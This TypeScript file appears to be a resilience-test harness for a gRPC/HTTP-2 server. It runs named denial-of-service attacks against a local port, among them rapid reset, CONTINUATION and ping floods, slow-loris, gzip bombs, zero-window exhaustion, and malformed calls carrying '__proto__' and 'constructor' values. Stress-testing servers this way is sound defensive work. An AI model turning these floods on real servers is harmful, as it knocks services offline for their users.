import type { Socket } from "node:net";
import { setPriority } from "node:os";
import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import {
  END_HEADERS,
  END_STREAM,
  field,
  frame,
  message,
  NOTHING,
  open,
  request,
  setting,
  TYPE,
  uint32,
} from "./wire.ts";

/**
 * An attack as a process of its own. Arguments: its name, the port, and for how many ms. It takes only the processor
 * time that server and victim leave, as if it came from another machine. Prints when it begins, and at its end how many
 * connections it opened.
 */
const [name, portText, msText] = process.argv.slice(2) as [string, string, string];
const port = Number(portText);
const until = Date.now() + Number(msText);
let connections = 0;

const UNARY = request("/millrace.test.v1.Echo/Unary");
const CHUNK_BYTES = 65_536;

/** Sends what `make` makes of 1, 2, 3, ... until the connection ends, and then on a new one. */
function flood(make: (i: number) => Uint8Array, first: Uint8Array = NOTHING): () => Promise<void> {
  return async () => {
    while (Date.now() < until) {
      const socket = await openOne();
      socket.resume();
      socket.write(first);
      for (let i = 1; !socket.destroyed && socket.writable && Date.now() < until; ) {
        const chunk: Uint8Array[] = [];
        for (let bytes = 0; bytes < CHUNK_BYTES; i++) bytes += chunk[chunk.push(make(i)) - 1]?.length ?? 0;
        if (!socket.write(Buffer.concat(chunk))) await Promise.race([drained(socket), sleep(200)]);
        else await sleep(0);
      }
      socket.destroy();
      await sleep(20);
    }
  };
}

const streamId = (i: number): number => 2 * i - 1;

const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
  "rapid reset": flood((i) =>
    Buffer.concat([
      frame(TYPE.headers, END_HEADERS | END_STREAM, streamId(i), UNARY),
      frame(TYPE.reset, 0, streamId(i), uint32(8)),
    ]),
  ),
  "resets that the server sends": flood((i) =>
    Buffer.concat([
      frame(TYPE.headers, END_HEADERS, streamId(i), UNARY),
      frame(TYPE.windowUpdate, 0, streamId(i), uint32(0)),
    ]),
  ),
  "CONTINUATION flood": flood(
    () => frame(TYPE.continuation, 0, 1, field("x", "y".repeat(1_000))),
    frame(TYPE.headers, 0, 1, UNARY),
  ),
  "empty CONTINUATION flood": flood(
    () => frame(TYPE.continuation, 0, 1, NOTHING),
    frame(TYPE.headers, 0, 1, UNARY),
  ),
  "empty DATA flood": flood(
    () => frame(TYPE.data, 0, 1, NOTHING),
    frame(TYPE.headers, END_HEADERS, 1, UNARY),
  ),
  "ping flood": flood(() => frame(TYPE.ping, 0, 0, Buffer.alloc(8))),
  "settings flood": flood((i) => frame(TYPE.settings, 0, 0, setting(4, i))),
  "100,000 streams": flood((i) => frame(TYPE.headers, END_HEADERS, streamId(i), UNARY)),
  "slow-loris": async () => {
    const sockets = await Promise.all(Array.from({ length: 200 }, openOne));
    const half = Buffer.concat([
      frame(TYPE.headers, END_HEADERS, 1, UNARY),
      frame(TYPE.data, 0, 1, message(Buffer.alloc(1_000_000)).subarray(0, 100)),
      frame(TYPE.headers, 0, 3, UNARY),
      frame(TYPE.continuation, 0, 3, Buffer.alloc(1_000)).subarray(0, 9),
    ]);
    for (const socket of sockets) socket.write(half);
    while (Date.now() < until) {
      for (const socket of sockets) if (socket.writable) socket.write(Buffer.alloc(1));
      await sleep(100);
    }
  },
  "gzip bombs": async () => {
    const fields = request("/millrace.test.v1.Echo/Unary", { "grpc-encoding": "gzip" });
    while (Date.now() < until) {
      const socket = await openOne();
      socket.resume();
      for (let i = 1; i <= 8; i++) {
        socket.write(frame(TYPE.headers, END_HEADERS, streamId(i), fields));
        for (let at = 0; at < BOMB.length; at += 16_384) {
          const isLast = at + 16_384 >= BOMB.length;
          socket.write(
            frame(TYPE.data, isLast ? END_STREAM : 0, streamId(i), BOMB.subarray(at, at + 16_384)),
          );
        }
      }
      await sleep(200);
      socket.destroy();
    }
  },
  "metadata of 1 MB": flood((i) => {
    const block = Buffer.concat([
      UNARY,
      ...Array.from({ length: 64 }, (_, n) => field(`x-${n}`, "y".repeat(16_000))),
    ]);
    const pieces = [frame(TYPE.headers, 0, streamId(i), block.subarray(0, 16_384))];
    for (let at = 16_384; at < block.length; at += 16_384) {
      const flags = at + 16_384 >= block.length ? END_HEADERS : 0;
      pieces.push(frame(TYPE.continuation, flags, streamId(i), block.subarray(at, at + 16_384)));
    }
    return Buffer.concat(pieces);
  }),
  "malformed calls": flood((i) => {
    const [fields, body] = MALFORMED[i % MALFORMED.length] as readonly [Record<string, string>, Buffer];
    return Buffer.concat([
      frame(TYPE.headers, END_HEADERS, streamId(i), request("/millrace.test.v1.Echo/Unary", fields)),
      frame(TYPE.data, END_STREAM, streamId(i), body),
    ]);
  }),
  "answers that nobody reads": unread(setting(4, 0x7fff_ffff), 0x7000_0000),
  "windows of zero": unread(setting(4, 0), 0),
};

const BOMB = message(gzipSync(Buffer.alloc(64 * 1024 * 1024), { level: 1 }), 1);

const MALFORMED: readonly (readonly [Record<string, string>, Buffer])[] = [
  [{ "content-type": "" }, message(NOTHING)],
  [{ "content-type": "application/json" }, message(NOTHING)],
  [{ "content-type": "application/grpc;;;=" }, message(NOTHING)],
  [{ "grpc-encoding": "constructor" }, message(NOTHING, 1)],
  [{ "grpc-encoding": "__proto__" }, message(NOTHING, 1)],
  [{}, message(Buffer.from("x"), 1)],
  [{ "grpc-encoding": "gzip" }, message(Buffer.from("x"), 1)],
  [{}, message(Buffer.from("x"), 255)],
  [{}, Buffer.from([0, 255, 255, 255, 255])],
  [{}, Buffer.from([0, 0, 0])],
  [{}, NOTHING],
  [{ "grpc-timeout": "NaNS" }, message(NOTHING)],
  [{ ":path": "/constructor" }, message(NOTHING)],
  [{ ":path": "/\u00ff%00/__proto__" }, message(NOTHING)],
  [{ "content-length": "-1" }, message(NOTHING)],
  [{ te: "gzip" }, message(NOTHING)],
];

/** Many large answers on connections that are never read, or whose windows never open. */
function unread(settings: Uint8Array, window: number): () => Promise<void> {
  return async () => {
    const body = message(Buffer.alloc(16_000));
    while (Date.now() < until) {
      const sockets = await Promise.all(Array.from({ length: 4 }, () => openOne(settings)));
      for (const socket of sockets) {
        socket.pause();
        if (window > 0) socket.write(frame(TYPE.windowUpdate, 0, 0, uint32(window)));
      }
      for (let i = 1; i < 900 && Date.now() < until; i++) {
        for (const socket of sockets) {
          if (!socket.writable) continue;
          socket.write(frame(TYPE.headers, END_HEADERS, streamId(i), UNARY));
          socket.write(frame(TYPE.data, END_STREAM, streamId(i), body));
        }
        if (i % 5 === 0) await sleep(10);
      }
      await sleep(500);
      for (const socket of sockets) socket.destroy();
    }
  };
}

async function openOne(settings: Uint8Array = NOTHING): Promise<Socket> {
  connections += 1;
  return open(port, settings);
}

function drained(socket: Socket): Promise<unknown> {
  return new Promise((resolve) => {
    socket.once("drain", resolve);
    socket.once("close", resolve);
  });
}

setPriority(19);
const attack = ATTACKS[name];
if (attack === undefined) throw new Error(`there is no attack ${name}: ${Object.keys(ATTACKS).join(", ")}`);
process.stdout.write("begins\n");
await attack();
process.stdout.write(`${connections}\n`);
process.exit();
